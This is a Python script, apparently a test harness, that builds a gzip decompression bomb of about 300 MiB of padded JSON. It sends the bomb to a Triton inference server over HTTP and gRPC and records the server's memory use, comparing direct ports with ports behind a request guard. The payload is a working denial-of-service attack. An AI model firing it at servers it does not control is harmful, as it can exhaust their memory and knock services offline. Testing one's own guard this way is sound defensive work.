"""Send a gzip body (HTTP) and a gzip-compressed gRPC message that inflate to `size` bytes; print tritonserver's RSS.

Usage: python gzip_bomb.py HTTP_URL GRPC_HOST:PORT TRITONSERVER_PID [SIZE_BYTES]
Point it at tritonserver's own ports (no guard) or at `serve`'s ports (through the request guard).
"""

from __future__ import annotations

import gzip
import json
import sys
import threading
import time
import urllib.error
import urllib.request
from typing import Callable

import grpc
import tritonclient.grpc.service_pb2 as pb
import tritonclient.grpc.service_pb2_grpc as pbg


def rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        return int(next(line for line in status if line.startswith("VmRSS")).split()[1])


def measured(name: str, pid: int, send: Callable[[], str]) -> None:
    """Run `send` while sampling `pid`'s RSS every 20 ms; print the result, before, peak and after."""
    stop, samples = threading.Event(), [rss_kib(pid)]

    def sample() -> None:
        while not stop.wait(0.02):
            samples.append(rss_kib(pid))

    watcher = threading.Thread(target=sample)
    watcher.start()
    start = time.perf_counter()
    try:
        result = send()
    except Exception as exc:  # noqa: BLE001 - reported
        result = f"{type(exc).__name__}: {str(exc)[:200]}"
    took = time.perf_counter() - start
    time.sleep(1.0)
    stop.set()
    watcher.join()
    before, peak, after = samples[0] / 1024, max(samples) / 1024, samples[-1] / 1024
    print(f"{name}: {took:.2f} s -> {result}; RSS before {before:.0f} MiB, peak {peak:.0f} MiB, after {after:.0f} MiB")


def main(http_url: str, grpc_url: str, pid: int, size: int) -> None:
    history = "[" + " " * size + "]"
    tensor = {"name": "HISTORY", "datatype": "BYTES", "shape": [1, 1], "data": [history]}
    packed = gzip.compress(json.dumps({"inputs": [tensor]}).encode(), 9)
    print(f"gzip body {len(packed) / 1024:.0f} KiB inflating to {size / 2**20:.0f} MiB")

    def http_send() -> str:
        request = urllib.request.Request(
            f"{http_url}/v2/models/ugt_recommend/infer", data=packed, method="POST",
            headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
        )  # fmt: skip
        try:
            with urllib.request.urlopen(request, timeout=120) as response:
                return str(response.status)
        except urllib.error.HTTPError as exc:
            return f"{exc.code} {exc.read()[:150]!r}"

    def grpc_send() -> str:
        request = pb.ModelInferRequest(model_name="ugt_recommend")
        request.inputs.add(name="HISTORY", datatype="BYTES", shape=[1, 1]).contents.bytes_contents.append(
            history.encode()
        )
        options = [("grpc.max_send_message_length", -1)]
        with grpc.insecure_channel(grpc_url, options=options, compression=grpc.Compression.Gzip) as channel:
            try:
                pbg.GRPCInferenceServiceStub(channel).ModelInfer(request, timeout=120)
                return "OK"
            except grpc.RpcError as exc:
                return f"{exc.code()} {exc.details()[:150]}"

    measured("HTTP gzip", pid, http_send)
    measured("gRPC gzip", pid, grpc_send)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else 300 << 20)
